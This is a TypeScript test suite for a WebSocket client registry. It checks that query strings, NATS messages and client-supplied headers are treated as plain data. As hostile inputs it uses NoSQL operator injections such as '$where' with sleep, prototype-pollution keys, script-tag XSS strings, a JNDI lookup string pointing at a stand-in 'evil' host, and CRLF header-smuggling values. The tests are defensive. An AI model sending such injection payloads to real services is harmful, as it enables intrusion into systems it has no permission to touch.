/** Attempts to make the registry read data as something else: operators, expressions, prototypes, subjects, headers, HTML. */
import 'reflect-metadata';
import { randomBytes } from 'node:crypto';
import { type Client, clientSchema, type ConnectFacts } from '@wscm/contracts';
import { eventually } from '@wscm/testing';
import {
  connectedEvent,
  http,
  type MadeUpGateway,
  messageEvent,
  siteForAllTests,
  type TestRegistry,
} from '../testing/site';

const site = siteForAllTests({ COMMAND_TIMEOUT_MS: '400', LEASE_TTL_MS: '600000' });
let registry: TestRegistry;
let gateway: MadeUpGateway;
let replyId: string;

beforeAll(async () => {
  registry = await site.startRegistry();
  gateway = await site.addGateway({ send: { result: 'delivered' }, disconnect: { result: 'disconnected' } });
  replyId = await site.connectClient(gateway, { path: '/room/1', user: 'ann' });
});

afterEach(() => {
  expect(Object.keys(Object.prototype)).toEqual([]);
});

const get = (path: string) => http(registry.url + path);

describe('operators in a query', () => {
  const OPERATORS = [
    '{"$gt":""}',
    '{"$ne":null}',
    '{"$regex":".*"}',
    '[$ne]',
    '$path',
    '/.*/',
    '*',
    '>',
    'true',
    '1==1',
    "' || 1==1",
  ];
  const FIELDS = ['path', 'user', 'gatewayId', 'remoteAddress'];

  it.each(OPERATORS)('the value %s is a text like any other, and matches nobody', async (value) => {
    for (const field of FIELDS) {
      const query = `${field}=${encodeURIComponent(value)}`;
      expect(await get(`/v1/clients?${query}`)).toMatchObject({ status: 200, body: { items: [], next: null } });
      expect(await get(`/v1/clients/count?${query}`)).toMatchObject({ status: 200, body: { count: 0 } });
      const filters = JSON.stringify({ [field]: value });
      expect(await site.ask('clients.count', filters)).toMatchObject({ code: '', body: { count: 0 } });
    }
  });

  it.each([
    ...['path[$gt]=', 'user[$ne]=x', 'user[$regex]=.*', 'path[$in][]=/room/1', 'path[$exists]=true', 'user.$ne=x'],
    ...[
      '$where=1',
      'filter[$where]=sleep(1000)',
      'filter={"$where":"1"}',
      '$or[0][path]=/room/1',
      '$expr=1',
      '$comment=x',
    ],
    ...[
      'cursor[$gt]=',
      'sort[$meta]=x',
      'sort={"_id":1}',
      'limit[$gt]=1',
      'limit={"$gt":1}',
      'limit=0x10',
      'limit=1e9',
    ],
  ])('?%s is refused', async (query) => {
    const started = performance.now();
    expect((await get(`/v1/clients?${query}`)).status).toBe(query === 'limit=0x10' ? 200 : 400);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it.each([
    ...['{"path":{"$gt":""}}', '{"user":{"$ne":null}}', '{"$where":"1"}', '{"$or":[{}]}', '{"path":{"$regex":".*"}}'],
    ...['{"cursor":{"$gt":""}}', '{"sort":{"_id":1}}', '{"limit":{"$gt":1}}', '{"filter":{"$where":"1"}}'],
  ])('and so is %s over NATS', async (payload) => {
    expect(await site.ask('clients.list', payload)).toMatchObject({ code: '400' });
  });
});

describe('prototypes', () => {
  it.each(['__proto__', 'constructor', 'prototype', '__proto__[admin]', 'constructor[prototype][admin]'])(
    'a query can’t reach %s',
    async (name) => {
      expect((await get(`/v1/clients?${name}=x`)).status).toBe(400);
      expect((await http(`${registry.url}/v1/clients/${replyId}?${name}=x`, { method: 'DELETE' })).status).toBe(400);
    },
  );

  it.each(['{"__proto__":{"path":"/room/1"}}', '{"constructor":{"prototype":{"admin":1}}}', '{"prototype":1}'])(
    'nor can %s over NATS',
    async (payload) => {
      const { code, body } = await site.ask('clients.count', payload);
      // What JSON.parse makes of __proto__ is a property as any other, and none that is known.
      if (code === '') expect(body).toEqual((await get('/v1/clients/count')).body);
      else expect(code).toBe('400');
    },
  );

  it('nor can what a client told when it connected', async () => {
    const id = `${gateway.gatewayId}.${randomBytes(16).toString('base64url')}`;
    const event = connectedEvent(id);
    const facts = JSON.stringify('connected' in event && event.connected);
    const hostile = '{"__proto__":"x","constructor":"y","toString":"z","hasOwnProperty":"w"}';
    const payload = facts.replace('"query":{}', `"query":${hostile}`).replace('"headers":{}', `"headers":${hostile}`);
    await site.putRaw(site.subjects.event('connected', id), payload, { ...headersOf(event.id), 'ce-subject': id });
    await site.untilStored(id, { state: 'live' });
    const { query } = clientSchema.parse((await get(`/v1/clients/${id}`)).body);
    expect(query).toMatchObject({ constructor: 'y', toString: 'z', hasOwnProperty: 'w' });
  });
});

describe('what clients tell is data, whatever it looks like', () => {
  const HOSTILE = '<script>alert(1)</script>';

  const facts: Partial<ConnectFacts> = {
    path: '/$path/{"$gt":""}/<script>alert(1)</script>',
    user: '$$ROOT',
    query: { $where: 'sleep(1000)', '$set.state': 'closed', 'a.b': ['$c', '{"$ne":1}'], x: HOSTILE },
    headers: { 'x-html': HOSTILE, $expr: '1', 'user-agent': '${jndi:ldap://evil}' },
  };

  it('is stored and answered as it was told, by JSON that no browser takes for a page', async () => {
    const id = await site.connectClient(gateway, facts);
    await site.put(messageEvent(id, 1, `$state ${HOSTILE}`));
    await site.untilStored(id, { messagesFromClient: 1 });
    for (const path of [`/v1/clients/${id}`, `/v1/clients?user=${encodeURIComponent('$$ROOT')}`]) {
      const response = await fetch(registry.url + path);
      expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const body = (await response.json()) as Client & { items?: Client[] };
      const [client] = body.items ?? [body];
      expect(client).toMatchObject({ ...facts, lastMessageFromClient: { message: `$state ${HOSTILE}` } });
    }
  });

  it('is on no page', async () => {
    for (const path of ['/docs', '/docs/', '/docs/index.html', `/docs?x=${encodeURIComponent(HOSTILE)}`])
      expect((await get(path)).body).not.toContain('alert(1)');
  });

  it('and an error that repeats what was asked is no page either', async () => {
    for (const path of [`/${HOSTILE}`, `/docs/${HOSTILE}`, `/v1/clients/${HOSTILE}`, `/v1/clients?${HOSTILE}=1`]) {
      const response = await fetch(registry.url + path);
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });
});

describe('headers', () => {
  /** The headers of what the gateways are sent meanwhile. */
  async function commandHeaders(command: () => Promise<unknown>): Promise<string[][]> {
    const seen: string[][] = [];
    const spy = site.connection.subscribe(`${site.prefix}.commands.>`, {
      callback: (_, { headers }) => void seen.push([...(headers?.keys() ?? [])]),
    });
    await site.connection.flush();
    await command();
    await eventually(() => expect(seen.length).toBeGreaterThan(0));
    spy.unsubscribe();
    return seen;
  }

  const SMUGGLED = {
    ...{ 'ce-type': 'wscm.disconnected', 'ce-source': '/registry', 'ce-subject': 'x', 'nats-msg-id': 'x' },
    ...{ 'wscm-seq': '999', 'wscm-order': '999', 'nats-rollup': 'all', 'nats-expected-stream': 'x' },
  };

  it('of a request over HTTP do not reach the gateway', async () => {
    const headers = { ...SMUGGLED, 'content-type': 'text/plain; ce-type="x"' };
    const send = () => http(`${registry.url}/v1/clients/${replyId}/messages`, { method: 'POST', body: 'x', headers });
    expect(await commandHeaders(send)).toEqual([['content-type']]);
    const broadcast = () => http(`${registry.url}/v1/broadcast`, { method: 'POST', body: 'x', headers });
    expect(await commandHeaders(broadcast)).toEqual([['content-type']]);
    expect(gateway.asked.at(-1)?.contentType).toBe('text/plain; charset=utf-8');
  });

  it('nor do those of a request over NATS', async () => {
    const send = () => site.ask(`clients.send.${replyId}`, 'x', SMUGGLED);
    expect(await commandHeaders(send)).toEqual([['content-type']]);
  });

  it('can’t be made by line ends in a reason: it travels as JSON', async () => {
    const reason = 'bye\r\nce-type: wscm.connected\r\n\r\n';
    const close = () =>
      http(`${registry.url}/v1/clients/${replyId}?reason=${encodeURIComponent(reason)}`, { method: 'DELETE' });
    expect((await commandHeaders(close)).flat()).toEqual([]);
    expect(JSON.parse(gateway.asked.at(-1)!.data.toString())).toEqual({ code: 4500, reason });
  });

  it('of an event that can’t be stored are kept only where they are known', async () => {
    const subject = site.subjects.event('connected', `${gateway.gatewayId}.bad`);
    const payload = JSON.stringify({ query: { 'a\r\nNats-Msg-Id: evil\r\n': { b: 1 } } });
    await site.putRaw(subject, payload, { ...headersOf('bad'), 'x-evil': 'evil', 'wscm-dead-letter-reason': 'none' });
    const dead = { last_by_subj: site.subjects.deadLetter(subject) };
    const letter = await eventually(() => site.jsm.streams.getMessage(site.subjects.deadLetterStream, dead), 20_000);
    const known = ['ce-specversion', 'ce-id', 'ce-source', 'ce-type', 'ce-time', 'content-type', 'Nats-Msg-Id'];
    const names = letter.header.keys();
    expect([...known, 'wscm-dead-letter-reason', 'wscm-stream-seq']).toEqual(expect.arrayContaining([...names]));
    expect(letter.header.get('wscm-dead-letter-reason')).toMatch(/^bad payload/);
    expect(letter.header.get('Nats-Msg-Id')).toMatch(/^dead-\d+$/);
  });
});

const headersOf = (id: string): Record<string, string> => ({
  ...{ 'ce-specversion': '1.0', 'ce-id': id, 'ce-source': '/gateways/made-up', 'ce-type': 'wscm.connected' },
  ...{ 'ce-time': new Date().toISOString(), 'content-type': 'application/json' },
});
